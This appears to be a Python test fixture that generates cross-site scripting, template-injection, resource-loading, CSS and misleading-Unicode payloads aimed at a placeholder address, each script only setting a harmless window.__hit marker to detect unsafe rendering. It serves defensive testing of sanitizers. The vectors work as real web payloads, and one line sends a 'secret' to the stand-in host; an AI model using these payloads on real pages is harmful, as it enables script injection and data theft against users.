"""Texts that attack a page: markup, scripts, links, templates, styles and misleading characters.

`{url}` stands for an address that nobody may call. Each script sets `window.__hit`.
"""

HIT = "window.__hit=1"

TEMPLATES = (
    # elements that run or load something
    "<script>window.__hit=1</script>",
    "<script src={url}/a.js></script>",
    "</title><script>window.__hit=1</script>",
    "</textarea><script>window.__hit=1</script>",
    "--><script>window.__hit=1</script><!--",
    "<img src=x onerror=window.__hit=1>",
    "<img src={url}/b.png>",
    "<image href={url}/c.png>",
    "<svg onload=window.__hit=1>",
    "<svg><script>window.__hit=1</script></svg>",
    "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s></svg>",
    "<svg><use href={url}/d.svg#x></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__hit=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror=window.__hit=1></style></mtext></math>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<iframe src={url}/e.html></iframe>",
    "<object data={url}/f.swf></object>",
    "<embed src={url}/g.pdf>",
    "<video src={url}/h.mp4 autoplay onerror=window.__hit=1></video>",
    "<audio src=x onerror=window.__hit=1>",
    "<details open ontoggle=window.__hit=1>x</details>",
    "<input autofocus onfocus=window.__hit=1>",
    "<body onload=window.__hit=1>",
    "<marquee onstart=window.__hit=1>x</marquee>",
    "<template><script>window.__hit=1</script></template>",
    "<link rel=stylesheet href={url}/i.css>",
    "<link rel=preconnect href={url}>",
    "<meta http-equiv=refresh content='0;url={url}/j'>",
    "<base href={url}/>",
    "<form action={url}/k><button autofocus>send</button></form>",
    "<a href=javascript:window.__hit=1>open</a>",
    "<a href='java\tscript:window.__hit=1'>open</a>",
    "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    "<scr<script>ipt>window.__hit=1</scr</script>ipt>",
    # attributes, entities and scripts without an element
    '" onmouseover="window.__hit=1" autofocus onfocus="window.__hit=1',
    "' onerror='window.__hit=1' x='",
    "`onload=window.__hit=1`",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__hit=1&#62;",
    "\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e",
    "';window.__hit=1;//",
    "</script><script>window.__hit=1</script>",
    # templates
    "${{window.__hit=1}}",
    "{{{{constructor.constructor('window.__hit=1')()}}}}",
    "<%= window.__hit=1 %>",
    "#{{window.__hit=1}}",
    "__proto__",
    # links and images of Markdown, addresses of other kinds
    "[open](javascript:window.__hit=1)",
    "![picture]({url}/l.png)",
    "[![x]({url}/m.png)]({url}/n)",
    "<javascript:window.__hit=1>",
    "[open](data:text/html,<script>window.__hit=1</script>)",
    "javascript:window.__hit=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    "{url}/o?secret=1",
    "//{host}/p",
    # styles
    "<style>@import '{url}/q.css'; body{{background:url({url}/r.png)}}</style>",
    "<p style='background:url({url}/s.png);position:fixed;inset:0'>over</p>",
    "x;background:url({url}/t.png)",
    # misleading characters
    "left \u202egnp.exe\u202c right",
    "zero\u200bwidth\u2060joined\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d tower",
    "\u2066\u2067isolated <img src=x onerror=window.__hit=1>\u2069",
)


def make_payloads(url: str) -> list[str]:
    """Return all payloads with the address that nobody may call."""
    host = url.partition("//")[2]
    return [template.format(url=url, host=host) for template in TEMPLATES]


def choose_payloads(url: str, count: int) -> list[str]:
    """Return that many payloads of all kinds."""
    payloads = make_payloads(url)
    step = len(payloads) / count
    return [payloads[int(number * step)] for number in range(count)]
